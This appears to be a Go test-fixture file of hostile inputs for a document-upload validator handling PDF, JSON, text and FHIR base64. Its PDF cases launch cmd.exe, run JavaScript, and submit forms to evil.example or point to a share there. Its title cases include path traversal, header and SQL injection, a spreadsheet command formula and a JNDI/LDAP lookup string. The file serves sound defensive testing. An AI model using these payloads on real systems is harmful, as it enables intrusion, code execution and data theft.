package hostile

import (
	"encoding/binary"
	"fmt"
	"strconv"
	"strings"
)

// Active are PDFs that do something when they are opened. F1 and F2 speak of types: each of them is a PDF (see the package comment).
func Active() []Case {
	t := &table{group: "pdf"}
	const why = "a PDF, whatever it does when opened; F1 and F2 speak of types only"
	js := "/S/JavaScript/JS(app.alert\\(1\\))"
	for _, c := range [][2]string{
		{"JavaScript on opening", "/OpenAction<<" + js + ">>"}, {"launch of a program", "/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"},
		{"address on opening", "/OpenAction<</S/URI/URI(http://evil.example)>>"}, {"form sent on opening", "/OpenAction<</S/SubmitForm/F(http://evil.example)>>"},
		{"a file of another host", "/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]>>"}, {"XFA form", "/AcroForm<</XFA 4 0 R>>"},
		{"embedded program", "/Names<</EmbeddedFiles<</Names[(a.exe)3 0 R]>>>>"},
		{"JavaScript in hexadecimal names", "/Open#41ction<</S/J#61vaScript/JS<616c657274>>>"},
	} {
		t.add(Accept, c[0], pdf, why, func() []byte {
			return pdfFile(c[1], "3 0 obj<</Type/EmbeddedFile/Length 4>>stream\nMZ\x90\x00\nendstream endobj")
		})
	}
	t.cases[len(t.cases)-1].Flagged = true // Heuristics.PDF.ObfuscatedNameObject
	t.add(Accept, "object stream that unpacks to 1 MiB", pdf, "nothing is unpacked here", func() []byte {
		packed := deflated(make([]byte, mebibyte))
		return pdfFile("", fmt.Sprintf("3 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj", len(packed), packed))
	})
	t.add(Accept, "arrays nested 1,000,000 deep", pdf, "nothing is parsed here", func() []byte { return pdfFile("/X " + strings.Repeat("[", 1_000_000) + strings.Repeat("]", 1_000_000)) })
	t.str(Damaged, "no end", pdf, "cut off", "%PDF-1.7\n1 0 obj<<>>endobj\n")
	t.str(Damaged, "no version", pdf, "no PDF has such a header", "%PDF-x.y\n%%EOF\n")
	return t.cases
}

// Text is JSON and text that grows, hides or is not what it seems.
func Text() []Case {
	t := &table{group: "text"}
	const million = 1_000_000
	t.add(Damaged, "JSON of a million levels", json, "deeper than 512", func() []byte { return join(strings.Repeat("[", million), strings.Repeat("]", million)) })
	t.add(Damaged, "JSON of a million open objects", json, "deeper than 512", func() []byte { return []byte(strings.Repeat(`{"a":`, million)) })
	t.add(Accept, "JSON of a million keys", json, "sound, and costs nothing", func() []byte {
		b := []byte(`{"k":0`)
		for i := range million {
			b = append(strconv.AppendInt(append(b, `,"k`...), int64(i), 10), `":0`...)
		}
		return append(b, '}')
	})
	t.add(Accept, "JSON of 200,000 equal keys", json, "RFC 8259 says SHOULD; sound, and costs nothing", func() []byte { return join(`{"k":0`, strings.Repeat(`,"k":0`, 200_000), "}") })
	t.add(Accept, "JSON with a number of a million digits", json, "sound, and costs nothing", func() []byte { return join("[", strings.Repeat("9", million), "]") })
	t.str(Damaged, "JSON with bytes behind", json, "something stands after the end", "{\"a\":1}\x00\x01\x02\xff\xfe")
	t.str(Damaged, "JSON in UTF-16", json, "JSON is UTF-8", string(wide(`{"a":1}`, binary.LittleEndian, true)))
	t.str(Damaged, "JSON with a bad byte", json, "JSON is UTF-8", "{\"a\":\"\xff\"}")
	t.str(Damaged, "JSON with an overlong NUL", json, "another spelling of NUL is none", "{\"a\":\"\xc0\x80\"}")
	t.str(Damaged, "JSON of a comment", json, "JSON has none", "{/* hei */}")
	t.str(Damaged, "JSON lines", json, "two values are not one document", "{\"a\":1}\n{\"a\":2}\n")
	t.str(Damaged, "text with NUL", plain, "no text holds it", "hei\x00 der\n")
	t.add(Damaged, "text of NULs", plain, "no text holds it", func() []byte { return make([]byte, 10_000) })
	t.str(Damaged, "text with an escape sequence", plain, "terminals obey it", "hei \x1b]0;x\x07\n")
	t.str(Damaged, "text with a backspace", plain, "it hides what stands before it", "ikke \b\b\b\b\b dødelig\n")
	t.str(Damaged, "UTF-16 without a mark", plain, "nothing says it is UTF-16", string(wide("hei der", binary.LittleEndian, false)))
	t.str(Damaged, "UTF-32", plain, "its second half is NULs", string(join("\xff\xfe\x00\x00", "h\x00\x00\x00")))
	t.str(Damaged, "half a surrogate pair", plain, "damaged UTF-16", "\xff\xfe\x00\xd8a\x00")
	t.str(Accept, "UTF-7", plain, "letters of ASCII; nobody reads UTF-7 unless told", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n")
	t.str(Accept, "right-to-left override", plain, "Unicode text; names are judged apart", "Resept \u202egnm001\u202c paracet\n")
	t.add(Accept, "a line of 500,000 letters", plain, "text", func() []byte { return []byte(strings.Repeat("å", 500_000)) })
	t.str(Damaged, "nothing", plain, "a document has content", "")
	t.str(Damaged, "a byte order mark and nothing", plain, "a document has content", "\xef\xbb\xbf")
	return t.cases
}

// Packed are compressed files given as documents: none of the nine, and never unpacked to see.
func Packed() []Case {
	t := &table{group: "packed"}
	for _, f := range formats {
		t.add(Mismatch, "gzip of 1 MiB as "+f.name, f.media, "gzip is none of the nine", func() []byte { return gzipped(make([]byte, mebibyte)) })
	}
	t.add(NotAllowed, "gzip as gzip", "application/gzip", "gzip is none of the nine", func() []byte { return gzipped([]byte(note)) })
	t.add(Mismatch, "gzip of a PDF as PDF", pdf, "packed, it is no PDF", func() []byte { return gzipped([]byte(minimal)) })
	return t.cases
}

// Names are titles that are file names of ill will, on a sound file; the declared type is right in all but the last few.
func Names() []Case {
	t := &table{group: "name"}
	name := func(want Decision, title, why string) {
		t.cases = append(t.cases, Case{Group: "name", Name: fmt.Sprintf("%.40q", title), Declared: pdf, Title: title, Want: want, Rule: "F2", Why: why,
			make: func() []byte { return pdfFile("") }})
	}
	const foreign, harmless = "the extension claims another format", "a title is text; it names no file here and stands in no header"
	for _, s := range []string{"a.exe", "Epikrise.pdf.exe", "a.exe. ", "a.EXE", "a.exe\r\n", "a.exe\t", "a.exe\u200b", "a.exe\u202c", "a.exe\u00a0", "..\\..\\a.bat", "../../a.html", "gpj.\u202eexe", "a.docx", "a.mht", "a.svg", "a.txt", "a.png", `"; filename="a.html`} {
		name(Mismatch, s, foreign)
	}
	for _, s := range []string{"a.pdf", "../../../../etc/passwd", "C:\\Windows\\System32\\a.pdf", "a.pdf\r\nSet-Cookie: a=b", "a\r\n\r\n<html>", `a"; filename="b`, "\u202efdp.Epikrise",
		"CON", "a.pdf%00.txt ", strings.Repeat("Svært lang tittel ", 500), "%s%n%x", "'; drop table tenant.document_entry; --", "=cmd|' /c calc'!A1", "\ufeffEpikrise", "${jndi:ldap://evil.example/a}"} {
		want, why := Accept, harmless
		if s == "a.pdf%00.txt " {
			want, why = Mismatch, foreign
		}
		name(want, s, why)
	}
	for _, media := range []string{"text/plain\r\nX-Evil: 1", "text/html", "application/pdf, text/html", "application/x-msdownload", "", " ", "*/*", "application/octet-stream",
		strings.Repeat("a", 100_000) + "/pdf", "application/pdf\x7f"} {
		t.cases = append(t.cases, Case{Group: "name", Name: fmt.Sprintf("declared as %.40q", media), Declared: media, Want: NotAllowed, Rule: "F1", Why: "none of the nine",
			make: func() []byte { return pdfFile("") }})
	}
	return t.cases
}

// Encoding is a document as it stands in a Binary's data: base64, written between the quotes of a JSON string as it is.
type Encoding struct {
	Name, Text string
	// Plain is what it decodes to when it is accepted.
	Plain string
	// Want is Accept, Damaged for what is no sound base64 (RFC 4648 §3.3, §3.5, §4: FHIR's base64Binary), or Malformed for what is no JSON.
	Want Decision
}

// Malformed: the body is not JSON.
const Malformed Decision = "DLMalformedBody"

// Encodings are spellings of base64 (FHIR R4, base64Binary: standard alphabet, white space may stand in it).
func Encodings() []Encoding {
	const good, plainText = "SGVpIGRlciBCbMOlYsOmciEhIQ==", "Hei der Blåbær!!!"
	ok := func(name, text string) Encoding { return Encoding{name, text, plainText, Accept} }
	bad := func(name, text string) Encoding { return Encoding{name, text, "", Damaged} }
	return []Encoding{
		ok("as it should be", good), ok("spaces", "SGVp IGRl ciBC bMOl YsOm ciEh IQ=="), ok("escaped lines", `SGVpIGRlciBC\r\nbMOlYsOmciEh\n\tIQ==`),
		ok("a space in a group", "S GVpIGRlciBCbMOlYsOmciEhI Q=="), ok("escaped letters", `\u0053GVpIGRlciBCbMOlYsOmciEhIQ=\u003d`), ok("spaces at the end", good+"  "), ok("space in the padding", "SGVpIGRlciBCbMOlYsOmciEhIQ= ="),
		bad("no padding", strings.TrimRight(good, "=")), bad("one padding missing", strings.TrimSuffix(good, "=")), bad("one padding too many", good+"="), bad("four paddings", good+"===="),
		bad("padding in the middle", "SGVpIA==ZGVy"), bad("bits that belong to no byte", "SGVpIGRlciBCbMOlYsOmciEhIR=="), bad("URL alphabet", "PDw_Pz8-Pg=="), bad("URL alphabet, minus", "-_-_"),
		bad("a lone character", "SGVpI"), bad("only padding", "===="), bad("a star", "SGVp*GRl"), bad("a null", `SGVp\u0000`), bad("not ASCII", "SGVpåGRl"), bad("full-width letters", "ＳＧＶｐ"), bad("data address", "data:text/plain;base64,SGVp"),
		bad("percent", "SGVp%3D%3D"), bad("quoted-printable", "SGVp=0D=0A"), bad("a backspace", `SGVp\bSGVp`), bad("a vertical tab", `SGVp\u000bSGVp`), bad("a surrogate", `SGVp\ud83d\ude00`),
		{"a raw line break", "SGVp\nIGRl", "", Malformed}, {"a raw NUL", "SGVp\x00IGRl", "", Malformed}, {"an unknown escape", `SGVp\x41`, "", Malformed}, {"half an escape", `SGVp\u00`, "", Malformed},
	}
}
